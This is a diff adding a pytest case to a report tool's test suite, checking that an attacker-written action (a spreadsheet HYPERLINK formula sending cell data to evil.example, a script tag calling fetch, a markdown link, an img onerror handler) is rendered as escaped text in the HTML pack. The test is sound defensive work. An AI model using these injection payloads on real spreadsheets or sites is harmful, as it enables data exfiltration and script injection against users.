@@ -11,7 +11,7 @@ import pytest
 
 from paqa_dash import cli, store
 from paqa_dash.report import pack
-from support.audit_store import AS_OF, CA, CB, CC, FAMILY_MARKUP, MARKUP, build_audit_store
+from support.audit_store import AS_OF, CA, CB, CC, FAMILY_MARKUP, MARKUP, PA2, build_audit_store
 
 HEADINGS = [h for _a, h, _q in pack.SECTIONS]
 
@@ -176,3 +176,30 @@ def test_an_annex_a_child_reads_not_recorded_never_late(tmp_path):
     rows = [r for r in rows if r]
     assert rows and all(r[1:4] == ["not recorded in this data"] * 3 for r in rows)   # held, first, later
     assert "No core group attendance is recorded" not in text
+
+
+HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") <script>fetch('http://evil.example')</script> "
+           "[see the report](http://evil.example/x) <img src=x onerror=alert(1)>")
+
+
+def test_hostile_action_text_reads_back_as_text(tmp_path):
+    """An action written by an attacker in the source file (a formula, a script, a markdown link, an image
+    with a handler): the pack written by the command line shows it as text and runs or links nothing."""
+    path = build_audit_store(tmp_path / "hostile.duckdb")
+    c = store.connect(path)
+    c.execute("INSERT INTO actions VALUES ('a1a1a1a1a1a1a1a9', ?, ?, NULL, NULL, NULL, 'OPEN', NULL, NULL, 1)",
+              [PA2, HOSTILE])
+    c.close()
+    out = tmp_path / "pack.html"
+    assert cli.main(["pack", CA, "--db", str(path), "--out", str(out)]) == 0
+    text = out.read_text(encoding="utf-8")
+    parsed = _parse(text)
+    assert not {"script", "img"} & set(parsed.tags)
+    external = [v for k, v in parsed.attrs if k in ("src", "href", "onerror") and not v.startswith("#")]
+    assert external == []
+    assert "evil.example" in text                              # shown, as text ...
+    assert "&lt;script&gt;fetch(&#x27;http://evil.example&#x27;)&lt;/script&gt;" in text
+    assert "&lt;img src=x onerror=alert(1)&gt;" in text
+    assert "<script" not in text and "<img" not in text       # ... never as markup
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)" in text
+    assert "[see the report](http://evil.example/x)" in text   # a markdown link stays its characters
